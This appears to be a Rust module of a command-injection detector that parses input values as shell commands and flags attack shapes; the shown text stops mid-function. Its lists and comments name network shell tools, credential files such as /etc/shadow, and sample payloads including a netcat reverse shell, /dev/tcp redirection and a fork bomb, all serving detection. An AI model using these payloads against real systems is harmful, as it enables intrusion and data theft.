//! The command-line grammar behind [`super::cmdi`]: reads a value as a
//! POSIX shell or Windows command line and judges each simple command —
//! its command word (after `time`, `nohup`, `sudo`… prefixes), and whether
//! its arguments have the shape of a real invocation (flags, absolute
//! paths, redirections, globs on system paths). A value that *starts* with
//! `ls -l /etc` is a command line even without a separator in front.

use haetae_model::Confidence::{self, High, Low, Medium};

/// Programs an attacker runs (recon, download, shells, interpreters,
/// package and config tools), named by their usual binaries. English words
/// are in [`ENGLISH`] and need stronger arguments.
const PROGRAM_LIST: &[&str] = &[
    "ls",
    "cat",
    "tac",
    "nl",
    "id",
    "whoami",
    "uname",
    "hostname",
    "ifconfig",
    "ipconfig",
    "ip",
    "netstat",
    "ss",
    "nslookup",
    "dig",
    "host",
    "ping",
    "traceroute",
    "tracert",
    "arp",
    "route",
    "wget",
    "curl",
    "fetch",
    "lwp-download",
    "lynx",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "ssh",
    "scp",
    "sftp",
    "ftp",
    "tftp",
    "rsync",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "ash",
    "fish",
    "busybox",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "lua",
    "node",
    "nodejs",
    "java",
    "jrunscript",
    "gcc",
    "cc",
    "c89",
    "c99",
    "g++",
    "clang",
    "make",
    "chmod",
    "chown",
    "chgrp",
    "chattr",
    "rm",
    "rmdir",
    "mkdir",
    "mkfifo",
    "mknod",
    "cp",
    "mv",
    "ln",
    "dd",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "gunzip",
    "bzip2",
    "xz",
    "zcat",
    "zstdcat",
    "bzcat",
    "xzcat",
    "base64",
    "base32",
    "xxd",
    "od",
    "hexdump",
    "strings",
    "awk",
    "gawk",
    "mawk",
    "sed",
    "grep",
    "egrep",
    "fgrep",
    "rgrep",
    "cut",
    "tr",
    "uniq",
    "wc",
    "fold",
    "rev",
    "paste",
    "column",
    "diff",
    "cmp",
    "tee",
    "xargs",
    "env",
    "printenv",
    "export",
    "unset",
    "crontab",
    "at",
    "passwd",
    "useradd",
    "usermod",
    "userdel",
    "groupadd",
    "visudo",
    "sudo",
    "su",
    "doas",
    "chroot",
    "mount",
    "umount",
    "systemctl",
    "service",
    "kill",
    "killall",
    "pkill",
    "ps",
    "top",
    "pgrep",
    "lsof",
    "strace",
    "ltrace",
    "gdb",
    "nohup",
    "setsid",
    "screen",
    "tmux",
    "uptime",
    "df",
    "du",
    "free",
    "lsb_release",
    "dmesg",
    "journalctl",
    "iptables",
    "nft",
    "ufw",
    "openssl",
    "gpg",
    "ssh-keygen",
    "sshpass",
    "mysql",
    "psql",
    "sqlite3",
    "mongo",
    "redis-cli",
    "apt",
    "apt-get",
    "dpkg",
    "yum",
    "dnf",
    "rpm",
    "apk",
    "pip",
    "pip3",
    "npm",
    "gem",
    "composer",
    "cargo",
    "go",
    "docker",
    "kubectl",
    "podman",
    "ansible",
    "ansible-playbook",
    "ansible-pull",
    "ansible-galaxy",
    "ansible-inventory",
    "ansible-vault",
    "chef",
    "chef-client",
    "chef-shell",
    "chef-solo",
    "chef-vault",
    "knife",
    "puppet",
    "salt",
    "terraform",
    "vagrant",
    "cscli",
    "aws",
    "gcloud",
    "az",
    "uconv",
    "iconv",
    "rmt",
    "shred",
    "wall",
    "write",
    "finger",
    "last",
    "w",
    "who",
    "whereis",
    "locate",
    "updatedb",
    "file",
    "stat",
    "readlink",
    "realpath",
    "basename",
    "dirname",
    "mktemp",
    "seq",
    "yes",
    "sleep",
    "usleep",
    "printf",
    "echo",
    "eval",
    "exec",
    "expr",
    "let",
    "source",
    "alias",
    "bind",
    "declare",
    "typeset",
    "ulimit",
    "umask",
    "history",
    "fc",
    "cd",
    "getent",
    "id",
    "groups",
    "last",
    "lastlog",
    "tailf",
    "more",
    "less",
    "most",
    "head",
    "tail",
    "vi",
    "vim",
    "ex",
    "nvim",
    "nano",
    "ed",
    "emacs",
    "pico",
    "view",
    "rvim",
    "vimdiff",
    "powershell",
    "pwsh",
    "cmd",
    "certutil",
    "bitsadmin",
    "wmic",
    "reg",
    "regedit",
    "net",
    "net1",
    "netsh",
    "sc",
    "schtasks",
    "tasklist",
    "taskkill",
    "systeminfo",
    "whoami",
    "rundll32",
    "regsvr32",
    "mshta",
    "cscript",
    "wscript",
    "msiexec",
    "vssadmin",
    "icacls",
    "cacls",
    "attrib",
    "wevtutil",
    "bcdedit",
    "fsutil",
    "forfiles",
    "nltest",
    "dsquery",
    "qwinsta",
    "quser",
    "runas",
    "msbuild",
    "installutil",
    "regasm",
    "regsvcs",
    "odbcconf",
    "cmstp",
    "aptitude",
    "zypper",
    "pacman",
    "snap",
    "perf",
    "flock",
    "cpulimit",
    "ionice",
    "taskset",
    "nsenter",
    "unshare",
    "capsh",
    "setcap",
    "getcap",
    "busctl",
    "bcdboot",
    "ansible-config",
    "ansible-console",
    "ansible-doc",
    "chef-run",
    "rmt-tar",
    "rmt-dump",
    "ssh-copy-id",
    "bsdtar",
    "pipx",
];

/// Command words that are also common English (or too short to trust):
/// they need an argument that no sentence has.
/// These extend `cmdi`'s own list of English command words.
const ENGLISH_EXTRA: &[&str] = &[
    "at", "w", "file", "host", "fetch", "make", "view", "write", "last", "free", "top", "go", "yes", "let", "source", "bind", "export",
    "service", "screen", "column", "paste", "fold", "cut", "tr", "ip", "ss", "salt", "chef", "aws", "az", "apt", "gem", "seq", "stat",
    "ed", "sc", "cmd", "groups", "mount", "route", "history", "alias", "wall", "finger", "cat", "cd", "python", "node", "ruby", "java",
    "dig", "ping", "curl", "pip", "trap", "most", "locate", "ex",
];

static PROGRAMS: super::Words = super::Words::new(PROGRAM_LIST);
static ENGLISH: super::Words = super::Words::with_extra(super::cmdi::WEAK, ENGLISH_EXTRA);

/// Words that run the command after them.
const PREFIXES: &[&str] = &[
    "time", "nohup", "sudo", "doas", "strace", "ltrace", "nice", "timeout", "stdbuf", "setsid", "command", "builtin", "busybox", "env",
    "xargs", "exec", ".shell", ".system", ".",
];

fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'/' | b'-' | b'\\' | b':' | b'+' | b'~')
}

/// The program a word names: `/usr/bin/python3.10` → `python3`, `gcc10.1` → `gcc`.
pub(super) fn program(word: &[u8]) -> Option<(&'static str, bool)> {
    // Only an explicit path names a program by its last segment
    // (`/usr/bin/id`, `./x`, `~/bin/x`, `c:\\windows\\…\\cmd`); `n/w` or `s/mv`
    // is one word, a relative file name at most.
    let explicit = matches!(word.first(), Some(b'/' | b'.' | b'~' | b'\\')) || word.get(1) == Some(&b':');
    let base = if explicit { word.rsplit(|&b| b == b'/' || b == b'\\').next().unwrap_or(word) } else { word };
    let base = base.strip_suffix(b".exe").unwrap_or(base);
    let base = std::str::from_utf8(base).ok()?;
    let lookup = |w: &str| PROGRAMS.get(w.as_bytes()).or_else(|| ENGLISH.get(w.as_bytes()));
    let found = lookup(base).or_else(|| {
        // Version suffixes: python3.10, gcc10.1, php8.
        let stem = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        // Three letters at least: `php8`, `gcc10`; `wc9` is no version of `wc`.
        if stem.len() >= 3 && stem.len() < base.len() { lookup(stem) } else { None }
    })?;
    let full_path = word.starts_with(b"/") && (word.starts_with(b"/bin/") || word.starts_with(b"/usr/") || word.starts_with(b"/sbin/"));
    let english = ENGLISH.contains(found.as_bytes()) && !full_path;
    Some((found, english))
}

/// What the arguments of one simple command look like.
#[derive(Default)]
struct Args {
    flag: bool,
    path: bool,
    redirect: bool,
    var: bool,
    /// A path under a system directory (`/etc/…`, `/proc/…`, `c:\windows`).
    syspath: bool,
    words: usize,
    other_program: bool,
    /// A file name with a script, config or data extension (`site.yml`).
    file: bool,
    /// A host name or IP address (`example.org`, `10.0.0.1`).
    host: bool,
}

/// `example.org`, `10.10.10.1`, `sub.example.co.kr:8080`: labels of
/// letters, digits and hyphens joined by dots, ending in a letter label
/// of two or more (a TLD) or forming a dotted quad.
fn is_host(w: &[u8]) -> bool {
    let w = w.split(|&b| b == b'/').next().unwrap_or(w);
    let w = w.split(|&b| b == b':').next().unwrap_or(w);
    let labels: Vec<&[u8]> = w.split(|&b| b == b'.').collect();
    if labels.len() < 2 || labels.iter().any(|l| l.is_empty() || !l.iter().all(|&b| b.is_ascii_alphanumeric() || b == b'-')) {
        return false;
    }
    let last = labels[labels.len() - 1];
    let quad = labels.len() == 4 && labels.iter().all(|l| l.len() <= 3 && l.iter().all(u8::is_ascii_digit));
    quad || (last.len() >= 2 && last.iter().all(u8::is_ascii_alphabetic))
}

/// Programs whose usual argument is a host: given one, they reach out.
const NETWORK: &[&str] = &[
    "curl",
    "wget",
    "ping",
    "nslookup",
    "dig",
    "host",
    "nc",
    "ncat",
    "netcat",
    "telnet",
    "ssh",
    "ftp",
    "tftp",
    "traceroute",
    "tracert",
    "whois",
    "socat",
    "lynx",
    "fetch",
];

/// `at 2:00`, `at now + 1 minute`: the time spec `at` schedules a job for.
fn at_time_spec(rest: &[u8]) -> bool {
    let w: &[u8] = rest.split(|b| b.is_ascii_whitespace()).next().unwrap_or(b"");
    let clock = w.len() <= 5
        && w.contains(&b':')
        && w.split(|&b| b == b':').all(|p| (1..=2).contains(&p.len()) && p.iter().all(u8::is_ascii_digit));
    clock || [&b"now"[..], b"midnight", b"noon", b"teatime"].contains(&w)
}

fn read_args(s: &[u8], mut i: usize, out: &mut Args) -> usize {
    let lim = (i + 512).min(s.len());
    while i < lim {
        let b = s[i];
        match b {
            b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b')' | b'}' => break,
            b' ' | b'\t' | b',' => i += 1,
            // `<p>`, `</p>`: markup ends the command, it is no redirection.
            b'<' if s.get(i + 1).is_some_and(|&n| n == b'/' || n == b'!' || n.is_ascii_alphabetic()) => break,
            b'>' | b'<' => {
                out.redirect = true;
                i += 1;
            }
            b'$' => {
                out.var = true;
                i += 1;
            }
            _ => {
                let st = i;
                while i < lim
                    && !matches!(s[i], b' ' | b'\t' | b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b')' | b'}' | b'>' | b'<' | b',')
                {
                    i += 1;
                }
                let w = &s[st..i];
                if w.is_empty() {
                    i += 1;
                    continue;
                }
                out.words += 1;
                // A sentence ends the command ("TELNET client class. Example:").
                if w.len() > 1 && w.ends_with(b".") && s.get(i) == Some(&b' ') && s.get(i + 1).is_some_and(u8::is_ascii_alphabetic) {
                    break;
                }
                // `if=/etc/passwd`, `--file=/etc/shadow`: the value of an option.
                let w = match memchr::memchr(b'=', w) {
                    Some(eq) if eq > 0 && w[eq + 1..].starts_with(b"/") => {
                        out.flag |= w[0] == b'-';
                        &w[eq + 1..]
                    }
                    _ => w,
                };
                // `-l`, `--file`; not a rule of dashes (`------`).
                if (w[0] == b'-' && w.len() > 1 && w[1].is_ascii_alphabetic())
                    || (w.starts_with(b"--") && w.get(2).is_some_and(u8::is_ascii_alphanumeric))
                {
                    out.flag = true;
                } else if w.starts_with(b"/")
                    || w.starts_with(b"./")
                    || w.starts_with(b"~/")
                    || w.starts_with(b"../")
                    || w.starts_with(b"\\\\")
                {
                    // `/` alone or `/?` is not a path.
                    if w.len() > 2 && w[1].is_ascii_alphanumeric() {
                        out.path = true;
                    }
                    const SYS: &[&[u8]] = &[
                        b"/etc/", b"/proc/", b"/bin/", b"/sbin/", b"/usr/", b"/var/", b"/dev/", b"/tmp/", b"/root/", b"/home/", b"/sys/",
                        b"/boot/", b"/opt/",
                    ];
                    if SYS.iter().any(|p| w.starts_with(p) && w.len() > p.len()) {
                        out.syspath = true;
                    }
                    if w[0] == b'/' && w.len() > 1 && w[1].is_ascii_alphabetic() && !w[1..].contains(&b'/') && w.len() <= 3 {
                        // Windows switches: `/c`, `/f`, `/r`.
                        out.flag = true;
                    }
                } else if [&b"%systemroot%"[..], b"%windir%", b"%comspec%", b"%userprofile%", b"%programfiles%", b"%appdata%", b"%temp%"]
                    .iter()
                    .any(|v| w.starts_with(v))
                {
                    // `%SYSTEMROOT%\win.ini`: a Windows system directory by
                    // its environment variable.
                    out.path = true;
                    out.syspath = true;
                } else if w.len() > 2 && w[0].is_ascii_alphabetic() && w[1] == b':' && (w[2] == b'\\' || w[2].is_ascii_alphabetic()) {
                    // `c:\windows`, `c:\` (a drive's root), or `c:windows`
                    // once backslashes were undone.
                    out.path = true;
                    // Early in the arguments ("find c:\\x", not "find
                    // visual studio versions from information in c:\\x").
                    out.syspath |= (w.len() > 3 || w[2] == b'\\') && out.words <= 3;
                } else if program(w).is_some_and(|(_, english)| !english) {
                    out.other_program = true;
                } else if let Some(dot) = memchr::memrchr(b'.', w)
                    && dot > 0
                    && w[..dot].iter().all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-'))
                {
                    const EXT: &[&[u8]] = &[
                        b"sh", b"py", b"rb", b"pl", b"php", b"yml", b"yaml", b"conf", b"cfg", b"ini", b"sql", b"log", b"ps1", b"bat",
                        b"exe", b"gz", b"tgz", b"jar", b"so", b"pem", b"key",
                    ];
                    out.file |= EXT.contains(&&w[dot + 1..]);
                    out.host |= is_host(w);
                } else if is_host(w) {
                    out.host = true;
                }
            }
        }
    }
    i
}

/// Positions where a simple command can start: the value's start and
/// after every separator or substitution opener.
fn command_starts(s: &[u8]) -> impl Iterator<Item = (usize, bool)> + '_ {
    std::iter::once((0, true)).chain(s.iter().enumerate().filter_map(|(i, &b)| {
        let after = match b {
            // A backtick is also Markdown's code mark; `cmdi` judges those.
            b';' | b'|' | b'&' | b'\n' | b'\r' => i + 1,
            b'(' if i > 0 && matches!(s[i - 1], b'$' | b'<' | b'>') => i + 1,
            b'{' if s.get(i + 1).is_some_and(|&n| n == b',' || n.is_ascii_alphabetic() || n == b'/') => i + 1,
            _ => return None,
        };
        Some((after, false))
    }))
}

/// `;\n.shell nc 10.0.0.1 6666 -e sh`, `1;.sh whoami`, `;\n.databases`:
/// a line of the SQLite command-line shell after a separator; `.shell` and
/// `.system` (or any prefix of them SQLite accepts, down to two letters) run
/// a program. A literal `\n` counts as the newline an application
/// unescaping the value would make of it.
pub(super) fn sqlite_dot_command(s: &[u8]) -> Option<usize> {
    const DOT: &[&[u8]] =
        &[b"databases", b"tables", b"dump", b"open", b"read", b"import", b"output", b"once", b"load", b"schema", b"backup"];
    memchr::memchr(b'.', s)?;
    for (start, at_value_start) in command_starts(s) {
        if at_value_start {
            continue;
        }
        let mut i = start;
        while i < s.len() && i - start < 16 {
            match s[i] {
                b' ' | b'\t' | b'\n' | b'\r' => i += 1,
                b'\\' if matches!(s.get(i + 1), Some(b'n' | b'r' | b't')) => i += 2,
                _ => break,
            }
        }
        if s.get(i) != Some(&b'.') {
            continue;
        }
        let at = i;
        i += 1;
        while i < s.len() && matches!(s[i], b' ' | b'"' | b'\'' | b'\\') && i - at < 8 {
            i += 1;
        }
        let n = s[i..].iter().take(16).take_while(|b| b.is_ascii_alphabetic()).count();
        let w = &s[i..i + n];
        let rest = s[i + n..].trim_ascii_start();
        // An abbreviation must be followed by a program (`.sh and` is prose).
        let next = &rest[..rest.iter().position(|&b| !is_word_byte(b)).unwrap_or(rest.len())];
        let runs = n >= 2
            && (b"shell".starts_with(w) || b"system".starts_with(w))
            && (matches!(w, b"shell" | b"system") && !next.is_empty() || program(next).is_some_and(|(_, english)| !english));
        let dot = DOT.contains(&w) && s.get(i + n).is_none_or(|b| !b.is_ascii_alphanumeric());
        if runs || dot {
            return Some(at);
        }
    }
    None
}

/// `install`, `list`, `decrypt`: a word that names what a program should
/// do (`pip3 install x`, `cscli alerts list`), which a search for the
/// program ("python3 tutorial") does not have.
fn has_subcommand(args: &[u8]) -> bool {
    const VERBS: &[&[u8]] = &[
        b"install",
        b"uninstall",
        b"list",
        b"dump",
        b"decrypt",
        b"encrypt",
        b"ping",
        b"report",
        b"show",
        b"get",
        b"set",
        b"run",
        b"exec",
        b"start",
        b"stop",
        b"restart",
        b"status",
        b"config",
        b"init",
        b"add",
        b"remove",
        b"rm",
        b"update",
        b"upgrade",
        b"delete",
        b"create",
        b"deploy",
        b"login",
        b"push",
        b"pull",
        b"clone",
        b"apply",
        b"edit",
        b"view",
        b"info",
        b"enable",
        b"disable",
        b"reload",
        b"kill",
        b"mount",
        b"connect",
        b"shell",
        b"console",
        b"eval",
        b"import",
        b"export",
        b"exploit",
        b"attach",
    ];
    args.split(u8::is_ascii_whitespace).any(|w| VERBS.contains(&w))
}

/// `whoami`, `visudo`, `chef-shell` as the whole value: a program that
/// only reports on or administers the system, or a hyphenated tool name
/// (`ansible-console`), sent to a parameter that runs what it is given.
/// Names that are also words, products or server actions (`python`,
/// `shutdown`, `reboot`) are not enough alone.
pub(super) fn lone_program(s: &[u8]) -> Option<&'static str> {
    const ALONE: &[&str] = &[
        "whoami",
        "ifconfig",
        "ipconfig",
        "uname",
        "netstat",
        "systeminfo",
        "visudo",
        "getent",
        "tasklist",
        "lsof",
        "useradd",
        "userdel",
        "usermod",
        "chpasswd",
        "iptables",
        "msfconsole",
        "msfvenom",
        "mimikatz",
    ];
    let v = s.trim_ascii();
    if v.len() < 4 || v.len() > 32 || !v.iter().all(|&b| b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'-' | b'.')) {
        return None;
    }
    if let Some(name) = ALONE.iter().find(|a| a.as_bytes() == v) {
        return Some(name);
    }
    // Only a hyphenated word can name a hyphenated tool: skip the lookup
    // for the rest (`recent`, `desc`).
    if !v.contains(&b'-') {
        return None;
    }
    let (name, english) = program(v)?;
    (!english && name.contains('-')).then_some(name)
}

/// `/path/file.gz`, `/var/www/`: an absolute path of two segments or more.
fn multi_segment_path(args: &[u8]) -> bool {
    let w = args.trim_ascii();
    w.starts_with(b"/") && w[1..].contains(&b'/') && w.get(1).is_some_and(u8::is_ascii_alphanumeric)
}

/// A value that is nothing but a few shell words: no sentence punctuation,
/// no more than six words, none of them a one-letter fragment or a word
/// that joins a sentence ("php webpage and gene", "OpenSSL m").
fn whole_command_line(s: &[u8]) -> bool {
    const JOINERS: &[&[u8]] = &[
        b"a", b"an", b"the", b"and", b"or", b"of", b"to", b"in", b"on", b"for", b"with", b"is", b"are", b"be", b"by", b"as", b"at", b"it",
        b"this", b"that", b"from", b"not", b"if", b"can", b"will",
    ];
    let s = s.trim_ascii();
    let words = || s.split(u8::is_ascii_whitespace).filter(|w| !w.is_empty());
    s.len() <= 80
        && !s.ends_with(b".")
        && words().count() <= 6
        && words().skip(1).all(|w| w.len() >= 2 && !JOINERS.contains(&w))
        && s.iter().all(|&b| {
            b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b' ' | b'.' | b'_' | b'/' | b':' | b'=' | b'+' | b'@' | b'~' | b'-')
        })
}

/// Judges `s` (already unquoted) as a command line.
/// Shell constructs that are code whatever words they hold.
fn constructs(s: &[u8]) -> Option<(usize, &'static str)> {
    // Every construct below needs one of these characters.
    let mut special = [false; 256];
    for &b in s {
        special[b as usize] = true;
    }
    if ![b'(', b'{', b'<', b'>', b'$', b'/', b'|', b'~', b'*', b'?', b'[', b'&', b';', b'\n', b':', b'\\']
        .iter()
        .any(|&c| special[c as usize])
    {
        return None;
    }
    let has = |c: u8| special[c as usize];
    let t = s.trim_ascii_start();
    // Shellshock: a function definition in a value (`() { :; };`).
    if t.starts_with(b"() {") || t.starts_with(b"(){") {
        return Some((0, "shell function definition (Shellshock)"));
    }
    // `>/tmp/x`, `< /etc/passwd`: a redirection to or from a system path.
    if let Some(r) = t.strip_prefix(b">>").or_else(|| t.strip_prefix(b">")).or_else(|| t.strip_prefix(b"<"))
        && [&b"/tmp/"[..], b"/etc/", b"/dev/", b"/var/", b"/proc/", b"/usr/", b"/bin/", b"/home/", b"/root/"]
            .iter()
            .any(|p| r.trim_ascii_start().starts_with(p))
    {
        return Some((0, "redirection to a system path"));
    }
    // `/bin/ab`, `bin/cscli`, `/usr/sbin/x`: the value is a path to a program.
    let bin = t.strip_prefix(b"/usr").unwrap_or(t);
    let bin = bin.strip_prefix(b"/").unwrap_or(bin);
    if let Some(name) = bin.strip_prefix(b"bin/").or_else(|| bin.strip_prefix(b"sbin/"))
        && !name.is_empty()
        && name.iter().all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
    {
        return Some((0, "path to a system program"));
    }
    // `;ps`, `&aptitude`, `|id`: the value opens with a separator and a
    // command, the classic appended-command shape.
    if let Some(r) = [&b"&&"[..], b"||", b";", b"|", b"&", b"\n"].iter().find_map(|sep| t.strip_prefix(*sep)) {
        let r = r.trim_ascii_start();
        let n = r.iter().take(64).take_while(|&&b| is_word_byte(b)).count();
        // An English word (`& more`) only when glued to the separator and alone.
        let glued_alone = n == r.len();
        let ok = match program(&r[..n]) {
            Some((_, false)) => r.get(n).is_none_or(|&b| b.is_ascii_whitespace() || matches!(b, b';' | b'|' | b'&')),
            Some((_, true)) => glued_alone && !t[1..].first().is_some_and(u8::is_ascii_whitespace),
            None => false,
        };
        if n > 0 && ok {
            return Some((0, "separator then a command at the start of the value"));
        }
    }
    // `~+`, `~-1`: tilde expansion as the whole value.
    if let Some(r) = t.trim_ascii_end().strip_prefix(b"~")
        && matches!(r.first(), Some(b'+' | b'-'))
        && r[1..].iter().all(u8::is_ascii_digit)
    {
        return Some((0, "tilde expansion"));
    }
    // `>(cmd)`, `<(cmd)`: process substitution.
    for op in [&b">("[..], b"<("] {
        if let Some(p) = super::find(s, op)
            && (p == 0 || !s[p - 1].is_ascii_alphanumeric())
            && let Some(close) = memchr::memchr(b')', &s[p + 2..(p + 66).min(s.len())])
            && close > 0
            && s[p + 2..p + 2 + close].iter().all(|&b| is_word_byte(b) || b == b' ')
        {
            return Some((p, "process substitution"));
        }
    }
    if let Some(at) = brace_expansion(s) {
        return Some((at, "brace expansion spelling a command"));
    }
    if let Some(at) = parameter_expansion(t) {
        return Some((at, "parameter or arithmetic expansion"));
    }
    // `irb<<<1+2`: a here-string (not a `<<<<<<<` conflict marker).
    if let Some(p) = super::find(s, b"<<<")
        && s.get(p + 3) != Some(&b'<')
        && (p == 0 || s[p - 1] != b'<')
    {
        return Some((p, "here-string"));
    }
    if let Some(at) = glob_system_path(s) {
        return Some((at, "glob over a system path"));
    }
    if let Some(at) = super::find(s, b"$((") {
        return Some((at, "arithmetic expansion"));
    }
    if let Some(at) = function_definition(s) {
        return Some((at, "shell function definition"));
    }
    if has(b'$')
        && let Some(at) = variable_run_with_code(s)
    {
        return Some((at, "shell variable run as a command with inline code"));
    }
    if has(b'$')
        && has(b'=')
        && let Some(at) = assigned_then_run(s)
    {
        return Some((at, "variable assigned, then run as a command"));
    }
    // `>/dev/tcp/10.0.0.1/4444`, `$d/tcp/host/port`: bash's network
    // redirection, the reverse shell's socket.
    for proto in [&b"/tcp/"[..], b"/udp/"] {
        if let Some(p) = super::find(s, proto) {
            let rest = &s[p + 5..];
            let host = rest.iter().take(64).take_while(|&&b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':')).count();
            // Under `/dev`, or under a variable holding it (`$d/tcp/…`).
            let var =
                s[..p].iter().rev().take(16).take_while(|&&b| b.is_ascii_alphanumeric() || b == b'_' || b == b'{' || b == b'}').count();
            let under = s[..p].ends_with(b"/dev") || (var > 0 && p > var && s[p - var - 1] == b'$');
            if under && host > 0 && rest.get(host) == Some(&b'/') && rest.get(host + 1).is_some_and(u8::is_ascii_digit) {
                return Some((p, "network redirection (/dev/tcp)"));
            }
        }
    }
    // `| sh`, `|bash -i`: piping into a shell.
    for at in super::positions(s, b'|') {
        let rest = s[at + 1..].trim_ascii_start();
        if !matches!(rest.first(), Some(b's' | b'b' | b'z' | b'k' | b'd' | b'/')) {
            continue;
        }
        for sh in [&b"sh"[..], b"bash", b"zsh", b"ksh", b"dash", b"/bin/sh", b"/bin/bash"] {
            if rest.starts_with(sh) && rest.get(sh.len()).is_none_or(|b| !b.is_ascii_alphanumeric()) {
                return Some((at, "pipe into a shell"));
            }
        }
    }
    None
}

/// `{l,-lh}s`, `c{a,oun}t`, `{,ip,a}`: a brace group whose expansions
/// spell a command.
fn brace_expansion(s: &[u8]) -> Option<usize> {
    let mut closing = super::NextOf::new(b'}');
    for open in super::positions(s, b'{') {
        let Some(close) = closing.within(s, open, 48).map(|c| c - open) else { continue };
        let inner = &s[open + 1..open + close];
        if !inner.contains(&b',') || inner.iter().any(|b| b.is_ascii_whitespace() || matches!(b, b':' | b'{')) {
            continue;
        }
        let pre_len = s[..open].iter().rev().take(16).take_while(|b| b.is_ascii_alphanumeric()).count();
        let pre = &s[open - pre_len..open];
        let post_len = s[open + close + 1..].iter().take(16).take_while(|b| b.is_ascii_alphanumeric()).count();
        let post = &s[open + close + 1..open + close + 1 + post_len];
        for alt in inner.split(|&b| b == b',') {
            // `{,$'whoami',}`: ANSI-C and plain quoting around an alternative.
            let alt: Vec<u8> = alt.iter().copied().filter(|b| !matches!(b, b'\'' | b'"' | b'$')).collect();
            let w = [pre, &alt[..], post].concat();
            if !w.is_empty() && !w.starts_with(b"-") && program(&w).is_some() {
                return Some(open - pre_len);
            }
        }
    }
    None
}

/// The whole value is a shell expansion: `${cmd}`, `${PATH#x}`, `$[2+2]`.
fn parameter_expansion(t: &[u8]) -> Option<usize> {
    let t = t.trim_ascii_end();
    if let Some(inner) = t.strip_prefix(b"${").and_then(|r| r.strip_suffix(b"}")) {
        let name = inner.iter().take_while(|&&b| b.is_ascii_alphanumeric() || b == b'_').count();
        if name > 0 && (name == inner.len() || matches!(inner[name], b'#' | b'%' | b':' | b'/' | b'^' | b',')) {
            return Some(0);
        }
    }
    if let Some(inner) = t.strip_prefix(b"$[").and_then(|r| r.strip_suffix(b"]"))
        && inner.iter().all(|&b| b.is_ascii_digit() || matches!(b, b'+' | b'-' | b'*' | b'/' | b' '))
    {
        return Some(0);
    }
    None
}

/// Whether shell glob `pat` (`?`, `*`, `[…]`, `[!…]`) matches `text`.
fn glob_match(pat: &[u8], text: &[u8]) -> bool {
    // Iterative with one backtrack point for `*`: linear for these sizes.
    let (mut p, mut t) = (0, 0);
    let (mut star_p, mut star_t) = (usize::MAX, 0);
    while t < text.len() {
        let step = if p < pat.len() {
            match pat[p] {
                b'*' => {
                    star_p = p;
                    star_t = t;
                    p += 1;
                    continue;
                }
                b'?' => Some(1),
                b'[' => {
                    let end = pat[p + 1..].iter().skip(1).position(|&b| b == b']').map(|e| p + 2 + e);
                    match end {
                        Some(e) => {
                            let set = &pat[p + 1..e];
                            let (neg, set) = match set.first() {
                                Some(b'!' | b'^') => (true, &set[1..]),
                                _ => (false, set),
                            };
                            // `[?]`, `[*]`: a class that stands for any character.
                            let hit = set.iter().any(|&b| b == b'?' || b == b'*')
                                || set.windows(3).any(|w| w[1] == b'-' && (w[0]..=w[2]).contains(&text[t]))
                                || set.contains(&text[t]);
                            if hit != neg {
                                p = e + 1;
                                t += 1;
                                continue;
                            }
                            None
                        }
                        None => (pat[p] == text[t]).then_some(1),
                    }
                }
                c => (c == text[t]).then_some(1),
            }
        } else {
            None
        };
        match step {
            Some(n) => {
                p += n;
                t += 1;
            }
            None if star_p != usize::MAX => {
                p = star_p + 1;
                star_t += 1;
                t = star_t;
            }
            None => return false,
        }
    }
    pat[p..].iter().all(|&b| b == b'*')
}

/// Files and programs a glob in a command line fishes for.
const GLOB_TARGETS: &[&[u8]] = &[
    b"/etc/passwd",
    b"/etc/shadow",
    b"/etc/group",
    b"/etc/hosts",
    b"/etc/issue",
    b"/proc/self/environ",
    b"/bin/sh",
    b"/bin/bash",
    b"/bin/cat",
    b"/bin/nc",
    b"/bin/ls",
    b"/bin/busybox",
    b"/usr/bin/id",
    b"/usr/bin/whoami",
    b"/usr/bin/wget",
    b"/usr/bin/curl",
    b"/usr/bin/python",
    b"/usr/bin/python3",
    b"/usr/bin/perl",
    b"/usr/bin/nc",
    b"/usr/bin/uname",
];

/// `/bin/ca?`, `/usr/bin/[u]name`, `/et*/pa??wd`: a glob standing for a
/// system path.
fn glob_system_path(s: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(p) = memchr::memchr(b'/', &s[from..]) {
        let at = from + p;
        let end = at
            + s[at..]
                .iter()
                .take(128)
                .take_while(|&&b| !matches!(b, b' ' | b'\t' | b';' | b'|' | b'&' | b'\n' | b'\'' | b'"' | b'`' | b')' | b',' | b'}'))
                .count();
        from = end.max(at + 1);
        if at > 0 && !matches!(s[at - 1], b' ' | b'\t' | b';' | b'|' | b'&' | b'\n' | b'=' | b'(' | b'`' | b'\'' | b'"' | b'{' | b',') {
            continue;
        }
        let tok = &s[at..end];
        if !tok.iter().any(|&b| matches!(b, b'?' | b'*' | b'[')) || tok.iter().filter(|&&b| b == b'/').count() < 2 {
            continue;
        }
        // `/?s?/?i?/c?t`: programs are also reached under `/usr`.
        if GLOB_TARGETS.iter().any(|g| glob_match(tok, g) || g.starts_with(b"/bin/") && glob_match(tok, &[&b"/usr"[..], g].concat())) {
            return Some(at);
        }
        let letters: Vec<u8> = tok.iter().copied().filter(|b| b.is_ascii_alphabetic() || *b == b'/').collect();
        const ROOTS: &[&[u8]] =
            &[b"/bin", b"/usr", b"/etc", b"/et/", b"/sbin", b"/proc", b"/dev", b"/tmp", b"/var", b"/bi/", b"/us/", b"/e/", b"/b/", b"/u/"];
        if ROOTS.iter().any(|r| letters.starts_with(r)) {
            return Some(at);
        }
    }
    None
}

/// `f(){ f|f& };f`, `:(){ :|:& };:`: a shell function (a fork bomb when
/// it calls itself in a pipe).
fn function_definition(s: &[u8]) -> Option<usize> {
    let p = super::find(s, b"()")?;
    let rest = s[p + 2..].trim_ascii_start();
